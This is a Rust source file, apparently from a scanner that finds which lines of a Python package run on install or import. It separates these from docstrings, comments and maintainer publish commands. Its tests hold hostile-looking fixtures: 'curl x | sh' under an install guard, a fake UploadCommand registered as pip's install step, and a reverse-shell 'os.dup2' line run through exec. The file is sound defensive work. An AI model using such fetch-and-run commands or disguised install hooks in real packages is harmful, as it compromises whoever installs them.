//! Which lines of a Python file are code, and which of those run when the module is
//! imported (code not inside a function body). Python's indentation makes this
//! decidable line by line with a small lexer instead of a full parser, tolerantly of
//! Python 2 and of broken files, which malware often is. Comments and triple-quoted
//! strings (docstrings full of example calls) are not code.

const DOUBLE: &[u8] = b"\"\"\"";
const SINGLE: &[u8] = b"'''";

/// What each line (0-based) is. Imports, definitions and decorators count as `Other`:
/// they run at import time too, but they are not calls that act.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum LineKind {
    /// Blank, comment, or inside a triple-quoted string.
    NotCode,
    /// Code that runs at import time.
    ModuleLevel,
    /// Code inside a function body, or a definition header.
    Other,
    /// Code of a maintainer's own setup.py command (under `if sys.argv[-1] == 'publish':`,
    /// or in a custom command class such as `UploadCommand`): it runs when a maintainer
    /// types `python setup.py publish`, never when pip builds or installs the package,
    /// nor on import.
    MaintainerCommand,
}

impl LineKind {
    /// Whether the line is code that runs when the package is built, installed or
    /// imported (comments, docstrings and release-command blocks do not).
    pub fn runs(self) -> bool {
        !matches!(self, LineKind::NotCode | LineKind::MaintainerCommand)
    }
}

/// What one line is, and the function it belongs to.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct LineInfo {
    pub kind: LineKind,
    /// 0-based line of the innermost `def` enclosing the line, if any: lines with the
    /// same value are in the same function body, the unit of "same code path".
    pub function: Option<u32>,
}

/// The kind of every line of `data`.
#[cfg(test)]
fn classify_lines(data: &[u8]) -> Vec<LineKind> {
    analyse_lines(data).into_iter().map(|l| l.kind).collect()
}

/// Kind and enclosing function of every line of `data`.
pub fn analyse_lines(data: &[u8]) -> Vec<LineInfo> {
    let mut out: Vec<LineInfo> = Vec::new();
    // Open blocks: (indent of the header line, whether it is a function, its line).
    let mut stack: Vec<(usize, bool, u32)> = Vec::new();
    // Open brackets carried over from previous lines: a statement continues while > 0.
    let mut depth = 0i32;
    let mut in_string: Option<&'static [u8]> = None;
    // Whether the open triple-quoted string is a docstring (a statement of its own)
    // rather than a value (`code = """..."""`, often executed later).
    let mut in_docstring = false;
    // Indent of an open `if __name__ == '__main__':` block: its body runs when the file
    // is a script, never when it is imported.
    let mut main_guard: Option<usize> = None;
    // Indent of an open release-command block (`if sys.argv[-1] == 'publish':`).
    let mut release_guard: Option<usize> = None;
    for raw in data.split(|&b| b == b'\n') {
        let line_no = out.len() as u32;
        let function = stack
            .iter()
            .rev()
            .find(|&&(_, def, _)| def)
            .map(|&(_, _, l)| l);
        let started_in_string = in_string.is_some();
        let brackets = scan_line(raw, &mut in_string);
        let text = raw.trim_ascii();
        let mut push =
            |kind: LineKind, function: Option<u32>| out.push(LineInfo { kind, function });
        if started_in_string {
            let kind = if in_docstring {
                LineKind::NotCode
            } else {
                LineKind::Other
            };
            push(kind, function);
            // `""").tag(config=True)`: what follows the string's end closes brackets.
            depth = (depth + brackets).max(0);
            continue;
        }
        if in_string.is_some() {
            in_docstring = starts_with_string(text);
        }
        if text.is_empty() || text.starts_with(b"#") {
            push(LineKind::NotCode, function);
            continue;
        }
        let in_function = function.is_some();
        // A top-level definition cannot continue a statement: resynchronise on it, so
        // that one unbalanced bracket cannot swallow the rest of the file.
        let top_level_definition = raw.starts_with(b"def ") || raw.starts_with(b"class ");
        if depth > 0 && !top_level_definition {
            let kind = if release_guard.is_some() {
                LineKind::MaintainerCommand
            } else if in_function || main_guard.is_some() {
                LineKind::Other
            } else {
                LineKind::ModuleLevel
            };
            push(kind, function);
            depth = (depth + brackets).max(0);
            continue;
        }
        let indent = raw
            .iter()
            .take_while(|&&b| b == b' ' || b == b'\t')
            .map(|&b| if b == b'\t' { 8 } else { 1 })
            .sum::<usize>();
        while stack.last().is_some_and(|&(i, _, _)| i >= indent) {
            stack.pop();
        }
        if main_guard.is_some_and(|guard| indent <= guard) {
            main_guard = None;
        }
        if release_guard.is_some_and(|guard| indent <= guard) {
            release_guard = None;
        }
        let function = stack
            .iter()
            .rev()
            .find(|&&(_, def, _)| def)
            .map(|&(_, _, l)| l);
        let in_function = function.is_some();
        let is_def = text.starts_with(b"def ") || text.starts_with(b"async def ");
        let kind = if starts_with_string(text) {
            LineKind::NotCode
        } else if release_guard.is_some() {
            LineKind::MaintainerCommand
        } else if in_function
            || is_def
            || text.starts_with(b"class ")
            || text.starts_with(b"@")
            || text.starts_with(b"import ")
            || text.starts_with(b"from ")
            || main_guard.is_some()
        {
            LineKind::Other
        } else {
            LineKind::ModuleLevel
        };
        push(kind, function);
        if is_def || code_part(text).ends_with(b":") {
            stack.push((indent, is_def, line_no));
            if main_guard.is_none() && is_main_guard(text) {
                main_guard = Some(indent);
            }
            if release_guard.is_none()
                && (is_release_guard(text) || is_release_command_class(text, data))
            {
                release_guard = Some(indent);
            }
        }
        depth = brackets.max(0);
    }
    out
}

/// A line with its whitespace removed, so that `if x == 'y':` reads as `ifx=='y':`.
fn without_spaces(text: &[u8]) -> Vec<u8> {
    text.iter()
        .copied()
        .filter(|b| !b.is_ascii_whitespace())
        .collect()
}

/// `if __name__ == '__main__':`, with either quotes and either operand order.
fn is_main_guard(text: &[u8]) -> bool {
    let compact = without_spaces(text);
    let compact = compact.as_slice();
    compact.starts_with(b"if")
        && [
            b"__name__=='__main__'".as_slice(),
            b"__name__==\"__main__\"",
            b"'__main__'==__name__",
            b"\"__main__\"==__name__",
        ]
        .iter()
        .any(|form| {
            compact[2..].starts_with(form)
                || compact[2..]
                    .strip_prefix(b"(")
                    .is_some_and(|c| c.starts_with(form))
        })
}

/// Words of a maintainer's own commands (`python setup.py publish`) that pip never passes
/// to setup.py: a block guarded by one of them runs only on the maintainer's machine.
const RELEASE_WORDS: &[&[u8]] = &[b"publish", b"release", b"upload", b"register", b"tag"];

/// `if sys.argv[-1] == 'publish':`, `if 'publish' in sys.argv:` and the like, for the
/// words of [`RELEASE_WORDS`] only: a guard on `install` or `bdist_wheel` runs on install.
fn is_release_guard(text: &[u8]) -> bool {
    let compact = without_spaces(text);
    if !compact.starts_with(b"if") || memchr::memmem::find(&compact, b"sys.argv").is_none() {
        return false;
    }
    let quoted = |word: &[u8], q: u8| {
        let mut needle = vec![q];
        needle.extend_from_slice(word);
        needle.push(q);
        memchr::memmem::find(&compact, &needle).is_some()
    };
    let mentions = |word: &[u8]| quoted(word, b'\'') || quoted(word, b'"');
    let literals = compact.iter().filter(|&&b| b == b'\'' || b == b'"').count();
    // One quoted word, a release word: `sys.argv[-1] in ('publish', 'install')` is not.
    literals == 2 && RELEASE_WORDS.iter().any(|w| mentions(w))
}

/// The steps pip runs when it builds or installs an sdist: a command class registered
/// under one of these names runs on install, whatever it is called.
const PIP_COMMANDS: &str = "install|build|build_py|build_ext|build_clib|build_scripts|egg_info|dist_info|bdist_wheel|bdist_egg|sdist|develop|install_lib|install_scripts|install_data|install_egg_info|editable_wheel";

/// A custom setuptools command that pip never runs: `class UploadCommand(Command):` of
/// the setup.py template, registered as `cmdclass={'upload': UploadCommand}`. Its body
/// runs on `python setup.py upload` only. A command registered under one of pip's own
/// steps (`'install': UploadCommand`) runs on every install, whatever its name; one
/// whose registration cannot be seen counts only when its name says it publishes.
fn is_release_command_class(text: &[u8], data: &[u8]) -> bool {
    let Some(rest) = text.strip_prefix(b"class ") else {
        return false;
    };
    let Some(open) = rest.iter().position(|&b| b == b'(') else {
        return false;
    };
    let name = rest[..open].trim_ascii();
    let base: Vec<u8> = rest[open + 1..]
        .iter()
        .copied()
        .take_while(|&b| b != b')')
        .filter(|b| !b.is_ascii_whitespace())
        .collect();
    let command_base = [
        b"Command".as_slice(),
        b"setuptools.Command",
        b"distutils.cmd.Command",
        b"distutils.core.Command",
    ]
    .contains(&base.as_slice());
    let plain_name =
        !name.is_empty() && name.iter().all(|b| b.is_ascii_alphanumeric() || *b == b'_');
    if !command_base || !plain_name {
        return false;
    }
    let name = String::from_utf8_lossy(name);
    let Ok(registration) = regex::bytes::Regex::new(&format!(
        r#"['"](\w+)['"]\s*:\s*{name}\b|\b(\w+)\s*=\s*{name}\s*[,)]"#
    )) else {
        return false;
    };
    let keys: Vec<String> = registration
        .captures_iter(data)
        .filter_map(|c| c.get(1).or(c.get(2)))
        .map(|m| String::from_utf8_lossy(m.as_bytes()).into_owned())
        .collect();
    if keys.iter().any(|k| PIP_COMMANDS.split('|').any(|p| p == k)) {
        return false;
    }
    let lower = name.to_ascii_lowercase();
    !keys.is_empty()
        || RELEASE_WORDS
            .iter()
            .any(|w| memchr::memmem::find(lower.as_bytes(), w).is_some())
}

/// For each line (0-based), whether it is code that runs at import time.
#[cfg(test)]
fn module_level_lines(data: &[u8]) -> Vec<bool> {
    classify_lines(data)
        .into_iter()
        .map(|k| k == LineKind::ModuleLevel)
        .collect()
}

/// Lexes one line: updates the triple-quoted string carried across lines, and returns
/// the net brackets opened outside strings and comments.
fn scan_line(line: &[u8], triple: &mut Option<&'static [u8]>) -> i32 {
    let mut brackets = 0;
    let mut single: Option<u8> = None;
    let mut i = 0;
    while i < line.len() {
        let rest = &line[i..];
        if let Some(close) = *triple {
            if line[i] == b'\\' {
                i += 2;
            } else if rest.starts_with(close) {
                *triple = None;
                i += 3;
            } else {
                i += 1;
            }
            continue;
        }
        if let Some(quote) = single {
            match line[i] {
                b'\\' => i += 2,
                c if c == quote => {
                    single = None;
                    i += 1;
                }
                _ => i += 1,
            }
            continue;
        }
        if rest.starts_with(DOUBLE) {
            *triple = Some(DOUBLE);
            i += 3;
            continue;
        }
        if rest.starts_with(SINGLE) {
            *triple = Some(SINGLE);
            i += 3;
            continue;
        }
        match line[i] {
            b'#' => break,
            b'\'' | b'"' => single = Some(line[i]),
            b'(' | b'[' | b'{' => brackets += 1,
            b')' | b']' | b'}' => brackets -= 1,
            _ => {}
        }
        i += 1;
    }
    brackets
}

/// Whether a statement starts with a triple-quoted string (with any `r`, `b`, `u`, `f`
/// prefix): a docstring or a bare string, documentation rather than a value.
fn starts_with_string(text: &[u8]) -> bool {
    let body = text
        .iter()
        .position(|b| !matches!(b, b'r' | b'R' | b'b' | b'B' | b'u' | b'U' | b'f' | b'F'))
        .map_or(text, |p| &text[p..]);
    text.len() - body.len() <= 2 && (body.starts_with(DOUBLE) || body.starts_with(SINGLE))
}

/// The line without a trailing comment (ignoring `#` inside simple quotes).
fn code_part(text: &[u8]) -> &[u8] {
    let mut quote = None;
    for (i, &b) in text.iter().enumerate() {
        match (quote, b) {
            (None, b'#') => return text[..i].trim_ascii(),
            (None, b'\'' | b'"') => quote = Some(b),
            (Some(q), c) if c == q => quote = None,
            _ => {}
        }
    }
    text
}

#[cfg(test)]
mod tests {
    /// A string argument spanning lines, closed with its call's bracket on its last line,
    /// closes the statement: what follows is scoped as before (IPython's traitlets).
    #[test]
    fn a_bracket_closed_after_a_multiline_string_ends_the_statement() {
        let src = b"class Shell:\n    pager = Bool(False, help=\n        \"\"\"\n        Help.\n        \"\"\").tag(config=True)\n\n    def find(self):\n        from urllib.request import urlopen\n        return urlopen(u)\n";
        let lines = analyse_lines(src);
        assert_eq!(lines[7].kind, LineKind::Other);
        assert_eq!(lines[7].function, Some(6));
        assert_eq!(lines[8].function, Some(6));
    }

    use super::*;

    #[test]
    fn function_bodies_are_not_module_level_but_other_blocks_are() {
        let src = b"import os\n\
def f():\n    os.system('a')\n\
try:\n    os.system('b')\nexcept Exception:\n    pass\n\
class C:\n    x = os.getcwd()\n    def m(self):\n        os.system('c')\n\
if __name__ == '__main__':\n    f()\n\
os.system('d')\n";
        let lines = module_level_lines(src);
        let expect = [
            false, false, false, true, true, true, true, false, true, false, false, true, false,
            true,
        ];
        assert_eq!(&lines[..expect.len()], &expect);
    }

    #[test]
    fn a_release_command_block_runs_neither_on_install_nor_on_import() {
        let src = b"import os, sys\n\
if sys.argv[-1] == 'publish':\n    os.system('twine upload dist/*')\n    os.system(\n        'git tag')\n    sys.exit()\n\
if 'install' in sys.argv:\n    os.system('curl x | sh')\n\
if sys.argv[-1] in ('publish', 'install'):\n    os.system('y')\n\
os.system('z')\n";
        use LineKind::*;
        assert_eq!(
            classify_lines(src),
            [
                Other,
                ModuleLevel,
                MaintainerCommand,
                MaintainerCommand,
                MaintainerCommand,
                MaintainerCommand,
                ModuleLevel,
                ModuleLevel,
                ModuleLevel,
                ModuleLevel,
                ModuleLevel,
                NotCode
            ]
        );
        assert!(is_release_guard(b"if \"publish\" in sys.argv:"));
        let template = b"class UploadCommand(Command):\n    def run(self):\n        os.system('twine upload dist/*')\nsetup(cmdclass={'upload': UploadCommand})\n";
        assert_eq!(classify_lines(template)[2], LineKind::MaintainerCommand);
        // Registered as pip's install step, the same class runs on every install.
        let disguised = b"class UploadCommand(Command):\n    def run(self):\n        os.system('curl x | sh')\nsetup(cmdclass={'install': UploadCommand})\n";
        assert_eq!(classify_lines(disguised)[2], LineKind::Other);
        // Any custom command pip never runs: `python setup.py pypi`, `setup.py test`.
        let custom = b"class PyPiCommand(Command):\n    def run(self):\n        os.system('twine upload dist/*')\nsetup(cmdclass={\n    'pypi': PyPiCommand,\n})\n";
        assert_eq!(classify_lines(custom)[2], LineKind::MaintainerCommand);
        let keyword = b"class Build(Command):\n    def run(self):\n        os.system('x')\nsetup(cmdclass=dict(build_py=Build))\n";
        assert_eq!(classify_lines(keyword)[2], LineKind::Other);
        assert!(!is_release_guard(b"if sys.argv[1] == 'bdist_wheel':"));
    }

    #[test]
    fn multi_line_calls_and_signatures_keep_their_block() {
        let src =
            b"def f(a,\n      b):\n    x = call(1,\n        2)\n    return x\ny = call(\n    3)\n";
        assert_eq!(
            module_level_lines(src),
            [false, false, false, false, false, true, true, false]
        );
    }

    #[test]
    fn a_long_signature_keeps_its_body_inside_the_function() {
        let src = b"class A:\n    async def f(\n        cls,\n        kind,\n    ) -> int:\n        s = socket.socket()\n";
        assert!(!module_level_lines(src)[5]);
    }

    #[test]
    fn brackets_inside_strings_do_not_open_statements() {
        let src = concat!(
            "RE = re.compile(\n",
            "    r'''(?P<name>([^\\[]\\S*))\n",
            "    ''', re.VERBOSE)\n",
            "def f():\n",
            "    urlopen(u)\n",
            "x = ')'\n",
            "def g():\n",
            "    urlopen(u)\n",
        );
        let lines = module_level_lines(src.as_bytes());
        assert!(!lines[4] && lines[5] && !lines[7], "{lines:?}");
    }

    #[test]
    fn a_string_value_holding_code_is_not_documentation() {
        let src = "import os\ncode = \"\"\"\nos.dup2(s.fileno(), 0)\n\"\"\"\nexec(code)\n";
        let kinds = classify_lines(src.as_bytes());
        assert_eq!(kinds[2], LineKind::Other, "{kinds:?}");
    }

    #[test]
    fn lines_know_their_innermost_function() {
        let src = b"import os\ndef f():\n    a()\n    def g():\n        b()\n    c()\nd()\n";
        let functions: Vec<Option<u32>> = analyse_lines(src).iter().map(|l| l.function).collect();
        assert_eq!(
            &functions[..7],
            &[None, None, Some(1), Some(1), Some(3), Some(1), None]
        );
    }

    #[test]
    fn docstrings_and_comments_are_not_code() {
        let src = concat!(
            "\"\"\"Example:\n",
            "\n",
            ">>> requests.get('https://x')\n",
            "\"\"\"\n",
            "# requests.get(u)\n",
            "class A:\n",
            "    '''\n",
            "requests.get(u)\n",
            "    '''\n",
            "requests.get(u)\n",
        );
        let kinds = classify_lines(src.as_bytes());
        use LineKind::*;
        assert_eq!(
            &kinds[..10],
            &[
                NotCode,
                NotCode,
                NotCode,
                NotCode,
                NotCode,
                Other,
                NotCode,
                NotCode,
                NotCode,
                ModuleLevel
            ]
        );
    }
}
